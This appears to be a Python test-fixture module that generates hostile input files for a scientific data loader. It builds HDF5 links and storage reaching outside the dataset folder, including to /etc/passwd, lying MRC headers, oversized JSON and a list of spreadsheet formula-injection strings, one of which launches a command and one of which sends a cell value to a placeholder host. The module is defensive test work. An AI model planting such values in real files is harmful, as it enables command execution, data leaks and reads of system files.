"""Hostile and careless input files (issue 38): truncated, lying headers, links and
storage reaching out of the dataset's folder, device paths, formula names. The tests build
them with these functions so that each fault stays fixed; run as a script to write them
all into a folder for trying by hand::

    python -m tests.hostile_files OUT_FOLDER
"""

from __future__ import annotations

import json
import os
import struct
import sys
from pathlib import Path

import numpy as np

#: Text a spreadsheet would run as a formula (OWASP's examples and the issue's).
FORMULA_TEXTS = (
    "=1+2",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "@SUM(1)",
    "+1+2",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
)


def outside_file(folder: Path) -> Path:
    """A raw file of 4 x 4 frames of 8 x 8 float32 in a sibling folder of ``folder``."""
    other = folder.parent / (folder.name + "_elsewhere")
    other.mkdir(parents=True, exist_ok=True)
    raw = other / "secret.raw"
    np.arange(4 * 4 * 8 * 8, dtype=np.float32).tofile(raw)
    return raw


def h5_external_storage(folder: Path, target: str, name="external.h5") -> Path:
    """An HDF5 whose 4D dataset's raw storage is the file ``target`` (not in the file)."""
    import h5py

    path = folder / name
    with h5py.File(path, "w") as f:
        f.create_dataset("data", shape=(4, 4, 8, 8), dtype="<f4", external=[(target, 0, 4096)])
    return path


def h5_virtual(folder: Path, source: Path, name="virtual.h5") -> Path:
    """An HDF5 whose 4D dataset is a virtual view of a dataset in ``source``."""
    import h5py

    with h5py.File(source, "w") as f:
        f.create_dataset("frames", data=np.ones((4, 4, 8, 8), np.float32))
    layout = h5py.VirtualLayout(shape=(4, 4, 8, 8), dtype="<f4")
    layout[...] = h5py.VirtualSource(str(source), "frames", shape=(4, 4, 8, 8))
    path = folder / name
    with h5py.File(path, "w") as f:
        f.create_virtual_dataset("data", layout)
    return path


def h5_huge_declared(folder: Path, name="huge.h5") -> Path:
    """A 1-2 kB HDF5 declaring a 100000 x 100000 scan of 256 x 256 frames (chunked, never
    written)."""
    import h5py

    path = folder / name
    with h5py.File(path, "w") as f:
        f.create_dataset(
            "data", shape=(100000, 100000, 256, 256), dtype="<u2", chunks=(1, 1, 256, 256)
        )
    return path


def h5_unallocated(folder: Path, name="unwritten.h5") -> Path:
    """An HDF5 declaring a plausible 64 x 64 scan whose frames were never written."""
    import h5py

    path = folder / name
    with h5py.File(path, "w") as f:
        f.create_dataset("data", shape=(64, 64, 64, 64), dtype="<u2", chunks=(1, 1, 64, 64))
    return path


def arina_master_linking(folder: Path, target: str, name="hostile_master.h5") -> Path:
    """A DECTRIS-style master file whose ``entry/data/data_000001`` is an external link to
    ``target`` (an absolute path, or one with ``..``)."""
    import h5py

    path = folder / name
    with h5py.File(path, "w") as f:
        f.create_group("entry/instrument/detector")
        f["entry/data/data_000001"] = h5py.ExternalLink(target, "/entry/data/data")
    return path


def empad_xml(folder: Path, raw_name: str, scan=(4, 4), name="empad.xml") -> Path:
    """An EMPAD .xml naming ``raw_name`` as its raw file (``../x``, an absolute path,
    ``/dev/zero``...)."""
    path = folder / name
    path.write_text(
        f'<root><raw_file filename="{raw_name}"/><pix_x>{scan[1]}</pix_x>'
        f"<pix_y>{scan[0]}</pix_y></root>"
    )
    return path


def mrc_declaring(folder: Path, shape=(100000, 100000, 100000), name="lying.mrc") -> Path:
    """An MRC header (1024 bytes, no data) declaring ``shape`` (nz, ny, nx) of float32."""
    header = bytearray(1024)
    nz, ny, nx = shape
    struct.pack_into("<3i", header, 0, nx, ny, nz)
    struct.pack_into("<i", header, 12, 2)  # mode 2: float32
    struct.pack_into("<3i", header, 28, nx, ny, nz)  # mx, my, mz
    struct.pack_into("<3f", header, 40, nx, ny, nz)  # cell
    struct.pack_into("<3i", header, 64, 1, 2, 3)
    header[208:212] = b"MAP "
    header[212:216] = bytes([0x44, 0x44, 0, 0])
    path = folder / name
    path.write_bytes(bytes(header))
    return path


def empty_file(folder: Path, name="empty.mrc") -> Path:
    path = folder / name
    path.write_bytes(b"")
    return path


def fifo(folder: Path, name="pipe.csv") -> Path:
    path = folder / name
    os.mkfifo(path)
    return path


def json_huge_integer(folder: Path, name="huge_int.json") -> Path:
    path = folder / name
    path.write_text('{"overfocus": 1' + "0" * 5000 + ', "unit": "m"}')
    return path


def json_deeply_nested(folder: Path, name="nested.json", depth=100000) -> Path:
    path = folder / name
    path.write_text("[" * depth + "]" * depth)
    return path


def write_all(folder: Path) -> list[Path]:
    """Every hostile file above in ``folder``; their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    raw = outside_file(folder)
    made = [
        h5_external_storage(folder, str(raw), "external_outside.h5"),
        h5_external_storage(folder, "/etc/passwd", "external_passwd.h5"),
        h5_external_storage(folder, "/dev/zero", "external_zero.h5"),
        h5_virtual(folder, raw.parent / "source.h5"),
        h5_huge_declared(folder),
        h5_unallocated(folder),
        arina_master_linking(folder, str(raw.parent / "source.h5")),
        empad_xml(folder, "../" + raw.parent.name + "/" + raw.name, name="empad_up.xml"),
        empad_xml(folder, str(raw), name="empad_absolute.xml"),
        empad_xml(folder, "/dev/zero", name="empad_zero.xml"),
        mrc_declaring(folder),
        empty_file(folder),
        json_huge_integer(folder),
        json_deeply_nested(folder),
    ]
    for text in FORMULA_TEXTS[:1]:
        made.append(folder / f"{text}.mdoc")
        made[-1].write_text("PixelSpacing = 1\n[ZValue = 0]\nTiltAngle = 0\n")
    (folder / "manifest.json").write_text(json.dumps([p.name for p in made], indent=1))
    return made


if __name__ == "__main__":
    for written in write_all(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_files")):
        print(written)
